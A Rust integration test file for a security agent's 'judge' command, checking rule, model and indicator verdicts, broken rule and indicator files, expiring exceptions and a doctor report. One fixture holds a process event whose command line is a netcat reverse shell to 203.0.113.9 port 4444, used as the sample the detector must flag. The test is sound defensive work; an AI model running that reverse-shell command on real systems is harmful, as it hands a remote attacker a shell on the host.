//! `cordon-agent judge --with rules|model|both`: what counts, what is told, and files that are not whole.
#![expect(clippy::unwrap_used, reason = "a failure to set up is a failed test")]

mod support;

use std::fs;
use std::path::Path;

use serde_json::{Value, json};
use support::{agent, complaint, model};

const SHELL: &str = r#"{"id":"a1","process":{"exe":"/usr/bin/ncat","argv":["nc","-e","/bin/sh","203.0.113.9","4444"],"uid":33},"connections":[{"direction":"out","protocol":"tcp","address":"203.0.113.9","port":4444}]}"#;
const LISTING: &str = r#"{"id":"b2","process":{"exe":"/usr/bin/ls","argv":["ls","-l"],"cwd":"/root","uid":0,"euid":0,"tty":true,"stdin":"tty","stdout":"tty","stderr":"tty"}}"#;
const RULE: &str = "title: Lists\nid: r1\nlevel: high\nlogsource: {category: process_creation}\n\
                    detection:\n  s: {Image|endswith: /ls}\n  condition: s\n";

/// Answers to both stories, and what was said on stderr.
fn judge(arguments: &[&str]) -> (Vec<Value>, String) {
    let all: Vec<&str> = ["judge", "-"].iter().chain(arguments).copied().collect();
    let output = agent(&all, format!("{SHELL}\n{LISTING}\n").as_bytes());
    assert!(output.status.success(), "{}", complaint(&output));
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    let answers = text.lines().map(|line| serde_json::from_str(line).unwrap());
    (answers.collect(), complaint(&output))
}

fn texts(answer: &Value) -> String {
    answer["reasons"].to_string()
}

fn write(folder: &Path, name: &str, text: &str) -> String {
    let path = folder.join(name);
    fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

#[test]
fn rules_alone_need_no_model_and_both_have_the_reasons_of_both() {
    let (rules, said) = judge(&["--with", "rules", "--model", "/nonexistent"]);
    assert_eq!(
        (rules[0]["verdict"].as_str(), rules[0]["stage"].as_str()),
        (Some("malicious"), Some("rule"))
    );
    assert_eq!(
        (rules[1]["verdict"].as_str(), rules[1]["model"].as_str()),
        (Some("benign"), Some("none"))
    );
    assert!(
        texts(&rules[0]).contains("Netcat with a shell behind it"),
        "{}",
        rules[0]
    );
    assert!(
        rules[0]["techniques"]
            .as_array()
            .unwrap()
            .contains(&json!("T1059.004"))
    );
    assert_eq!(said, "");
    let model = model();
    let (both, _) = judge(&["--model", model.to_str().unwrap()]);
    assert_eq!(both[0]["verdict"], "malicious");
    assert!(texts(&both[0]).contains("Netcat"), "{}", both[0]);
    let (alone, _) = judge(&["--with", "model", "--model", model.to_str().unwrap()]);
    assert!(!texts(&alone[0]).contains("Netcat"), "{}", alone[0]);
    assert!(both[0]["score"].as_f64() >= alone[0]["score"].as_f64());
}

#[test]
fn files_given_count_and_broken_ones_cost_themselves() {
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules");
    fs::create_dir(&rules).unwrap();
    write(&rules, "good.yml", RULE);
    write(&rules, "broken.yml", "title: [\n");
    write(
        &rules,
        "later2.yaml",
        &RULE
            .replace("r1", "r3")
            .replace("condition: s", "condition: s | count() > 3"),
    );
    write(&rules, "ignored.txt", "not a rule");
    let list = write(folder.path(), "list.txt", "203.0.113.0/24\n0.0.0.0/0\n");
    let (answers, said) = judge(&[
        "--with",
        "rules",
        "--no-embedded-rules",
        "--rules",
        rules.to_str().unwrap(),
        "--ioc",
        &list,
    ]);
    assert_eq!(
        (answers[0]["verdict"].as_str(), answers[0]["stage"].as_str()),
        (Some("malicious"), Some("ioc"))
    );
    assert_eq!(
        (answers[1]["verdict"].as_str(), answers[1]["stage"].as_str()),
        (Some("suspicious"), Some("rule"))
    );
    for wanted in [
        "broken.yml, line",
        "r3: unsupported: the condition counts",
        "list.txt, line 2: broken: \"0.0.0.0/0\"",
    ] {
        assert!(said.contains(wanted), "{wanted} is not in\n{said}");
    }
    let (_, said) = judge(&["--with", "rules", "--rules", "/nonexistent.yml"]);
    assert!(
        said.contains("/nonexistent.yml: broken: there is no such file"),
        "{said}"
    );
}

#[test]
fn an_exception_is_told_and_ends() {
    let folder = tempfile::tempdir().unwrap();
    let rule = write(folder.path(), "r.yml", RULE);
    let now = jiff::Timestamp::now();
    let hours = |hours: i64| {
        now.checked_add(jiff::SignedDuration::from_hours(hours))
            .unwrap()
            .to_string()
    };
    let exception = |expires: &str| {
        json!({"version": 1, "exceptions": [{"id": "e1", "scope": {"rule": "r1"}, "when": {"exe": "/usr/bin/ls", "argv": ["ls", "-l"]},
            "reason": "ours", "author": "op", "created": hours(-48), "expires": expires}]})
        .to_string()
    };
    for (expires, wanted) in [(hours(24), "benign"), (hours(-1), "suspicious")] {
        let file = write(folder.path(), "e.json", &exception(&expires));
        let (answers, said) = judge(&[
            "--with",
            "rules",
            "--no-embedded-rules",
            "--rules",
            &rule,
            "--exceptions",
            &file,
        ]);
        assert_eq!(
            (answers[1]["verdict"].as_str(), said.as_str()),
            (Some(wanted), ""),
            "{}",
            answers[1]
        );
        assert_eq!(
            texts(&answers[1]).contains("excepted by e1"),
            wanted == "benign"
        );
    }
}

#[test]
fn the_configured_folder_counts_and_the_doctor_tells_what_is_wrong_in_it() {
    let folder = tempfile::tempdir().unwrap();
    let rules = folder.path().join("rules");
    fs::create_dir_all(rules.join("indicators")).unwrap();
    write(&rules, "r.yml", RULE);
    write(
        &rules.join("indicators"),
        "list.txt",
        "203.0.113.9\nnonsense\n",
    );
    write(&rules, "exceptions.json", "{}");
    let config = write(
        folder.path(),
        "agent.toml",
        &format!(
            "state_dir = {:?}\nrun_dir = {:?}\n[rules]\ndir = {:?}\nembedded = false\n",
            folder.path().join("state"),
            folder.path().join("run"),
            rules
        ),
    );
    let (answers, said) = judge(&["--with", "rules", "--config", &config]);
    assert_eq!(
        (answers[0]["stage"].as_str(), answers[1]["verdict"].as_str()),
        (Some("ioc"), Some("suspicious"))
    );
    assert!(
        said.contains("list.txt, line 2: broken") && said.contains("exceptions.json"),
        "{said}"
    );
    let output = agent(&["doctor", "--json", "--config", &config], b"");
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let checks = report["checks"].as_array().unwrap();
    let check = checks
        .iter()
        .find(|check| check["name"] == "rules")
        .unwrap();
    let detail = check["detail"].as_str().unwrap();
    assert_eq!(check["ok"], false);
    assert!(
        detail.starts_with("1 rules, 1 indicators, 0 exceptions (0 uses), 2 do not count"),
        "{detail}"
    );
    assert!(detail.contains("list.txt, line 2: broken"), "{detail}");
}
